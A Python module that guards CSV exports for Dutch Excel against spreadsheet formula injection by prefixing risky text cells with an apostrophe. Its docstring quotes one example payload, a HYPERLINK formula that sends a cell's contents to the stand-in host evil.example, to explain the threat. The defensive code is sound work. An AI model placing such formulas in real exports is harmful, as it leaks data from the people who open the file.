"""CSV cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as
a formula (and a leading tab or carriage return can hide such a start), so a remark like
`=HYPERLINK("http://evil.example/?leak="&A1,"Klik")` would run when an organiser opens the
export. Such a cell gets a leading apostrophe, which spreadsheets show as text; every text
cell is quoted. The file is written for Dutch Excel: semicolon-separated, UTF-8 with a BOM,
so a double click opens it in columns with accents intact.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DELIMITER = ";"


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should show it: numbers as they are, text never a formula."""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def spreadsheet_csv(rows: Iterable[Iterable[object]]) -> bytes:
    """Rows as a CSV file that Dutch Excel opens in columns, every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(
        buffer, delimiter=DELIMITER, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n"
    )
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")
